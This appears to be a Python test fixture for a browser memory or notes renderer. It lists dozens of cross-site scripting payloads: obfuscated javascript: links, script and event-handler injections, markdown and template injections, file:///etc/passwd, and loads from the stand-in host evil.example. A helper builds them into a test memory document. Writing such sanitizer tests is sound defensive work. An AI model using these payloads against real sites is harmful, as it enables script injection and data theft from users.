"""What a memory or a note may try in a browser: every one sets `window.__pwned`, or calls home."""

from __future__ import annotations

from collections.abc import Iterable

DO = "window.__pwned=1"
HOME = "http://evil.example"

HREFS = (
    f"javascript:{DO}",
    f"JaVaScRiPt:{DO}",
    f"javascript&colon;{DO}",
    f"&#106;avascript:{DO}",
    f"&#x6A;avascript:{DO}",
    f"java%0ascript:{DO}",
    f"java&Tab;script:{DO}",
    f"%6aavascript:{DO}",
    f"\u00a0javascript:{DO}",
    f"\x01javascript:{DO}",
    f"vbscript:{DO}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/logout",
    f"view-source:{HOME}",
    f"blob:{HOME}/x",
)

PAYLOADS = (
    f"<script>{DO}</script>",
    f"<ScRiPt>{DO}</sCrIpT>",
    f"<script src={HOME}/x.js></script>",
    f"<img src=x onerror={DO}>",
    f"<img src={HOME}/pixel.png>",
    f"<svg onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"</textarea><script>{DO}</script>",
    f"</title></style></script><script>{DO}</script>",
    f"</pre></code></article></main><img src=x onerror={DO}>",
    f'"><script>{DO}</script>',
    f"'><img src=x onerror={DO}>",
    f'" autofocus onfocus="{DO}',
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe src='javascript:parent.__pwned=1'></iframe>",
    f"<object data='{HOME}/x'></object><embed src='{HOME}/x'>",
    f"<details open ontoggle={DO}>x</details>",
    f"<input autofocus onfocus={DO}>",
    f"<video><source onerror={DO}></video><audio src={HOME}/x autoplay></audio>",
    f"<form action={HOME}/x><button formaction=javascript:{DO}>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={HOME}/'>",
    f"<base href={HOME}/>",
    f"<link rel=stylesheet href={HOME}/x.css><link rel=prefetch href={HOME}/y>",
    f"<style>@import url({HOME}/x.css); * {{ background: url({HOME}/y) }}</style>",
    f"<p style='background:url({HOME}/z)' onmouseover='{DO}'>x</p>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={DO}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'></noscript>",
    f"<!--><script>{DO}</script>-->",
    f"<![CDATA[><script>{DO}</script>]]>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onload='{DO}'/>",
    f"<template><script>{DO}</script></template><xss onclick={DO} tabindex=1 id=x>x</xss>",
    f'![x" onerror="{DO}]({HOME}/p.png "t\' onload=\'{DO}")',
    f"![a](<javascript:{DO}>)",
    f'[x]({HOME}/"onmouseover="{DO})',
    f"[x]({HOME}/ '\" onclick=\"{DO}')",
    f'<{HOME}/" onclick="{DO}>',
    f"<https://evil.example/?<script>{DO}</script>>",
    f"[x]: javascript:{DO}\n\n[x]",
    f'``` " onmouseover="{DO}\n<script>{DO}</script>\n```',
    f"| <img src=x onerror={DO}> | b |\n|:--|--:|\n| <script>{DO}</script> | `<svg onload={DO}>` |",
    "{{ 1337 * 1339 }} {% raw %} ${1337*1339} <%= 1337*1339 %> #{1337*1339}",
    f"%3Cscript%3E{DO}%3C/script%3E &lt;script&gt;{DO}&lt;/script&gt;",
    f"\u202e\u2066<script>{DO}</script>\u200b\ufeff\U000e0041",
    f"<a href='javascript:{DO}' target=_blank>x</a> <a href={HOME} ping={HOME}/p>y</a>",
    "<div id=main><form id=csrf_token><input name=csrf_token></form></div>",
    *(f"[link]({href})" for href in HREFS),
)


def memory_of(payloads: Iterable[str]) -> str:
    """Return a memory with each payload where a text may stand: paragraph, list, heading, code."""
    parts = ["# Global memory\n"]
    for number, text in enumerate(payloads):
        line = " ".join(text.splitlines())
        parts.append(
            f"## {number} {line}\n\n{text}\n\n- item {line}\n  > quoted {line}\n\n`{line}`\n\n"
            f"    {line}\n\n| {line} |\n|---|\n| {line} |\n"
        )
    return "\n".join([*parts, "## Hard constraints\n", *(f"- Never {x!r}" for x in payloads), ""])
